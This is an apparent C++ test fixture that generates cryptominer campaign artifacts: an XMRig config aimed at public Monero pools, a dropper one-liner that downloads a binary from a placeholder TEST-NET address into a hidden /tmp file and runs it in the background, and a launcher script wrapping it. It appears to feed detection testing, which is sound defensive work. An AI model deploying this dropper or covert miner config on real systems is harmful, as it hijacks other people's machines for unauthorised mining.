// The miner's companions as the campaigns shipped them: config.json and the dropper command.
// The download host is in TEST-NET-2 (198.51.100.0/24, RFC 5737): it can never be contacted.
#include <nlohmann/json.hpp>

#include "image_builder.hpp"

namespace mg::testing {

std::string xmrig_config_json(const std::string& wallet) {
  using nlohmann::json;
  const json config = {
      {"autosave", true},
      {"background", true},
      {"donate-level", 1},
      {"donate-over-proxy", 1},
      {"cpu", {{"enabled", true}, {"huge-pages", true}, {"hw-aes", nullptr}, {"priority", nullptr},
               {"max-threads-hint", 100}, {"asm", true}, {"argon2-impl", nullptr}}},
      {"randomx", {{"init", -1}, {"mode", "auto"}, {"1gb-pages", false}, {"rdmsr", true},
                   {"wrmsr", true}, {"numa", true}}},
      {"opencl", {{"enabled", false}}},
      {"cuda", {{"enabled", false}}},
      {"pools", json::array({{{"algo", "rx/0"}, {"coin", "monero"},
                              {"url", "stratum+tcp://pool.supportxmr.com:3333"}, {"user", wallet},
                              {"pass", "x"}, {"rig-id", nullptr}, {"nicehash", false},
                              {"keepalive", true}, {"enabled", true}, {"tls", false},
                              {"daemon", false}},
                             {{"algo", "rx/0"}, {"url", "pool.minexmr.com:4444"}, {"user", wallet},
                              {"pass", "x"}, {"keepalive", true}, {"tls", false}}})},
      {"print-time", 60},
      {"retries", 5},
      {"retry-pause", 5},
  };
  return config.dump(4) + "\n";
}

std::string dropper_command(const std::string& wallet) {
  return "curl -sL -o /tmp/.x http://198.51.100.7/xmrig && chmod +x /tmp/.x && nohup /tmp/.x "
         "-o stratum+tcp://pool.supportxmr.com:3333 -u " + wallet + " -p x --donate-level 1 &";
}

std::string launcher_script(const std::string& wallet) {
  return "#!/bin/sh\n" + dropper_command(wallet) + "\n";
}

}  // namespace mg::testing
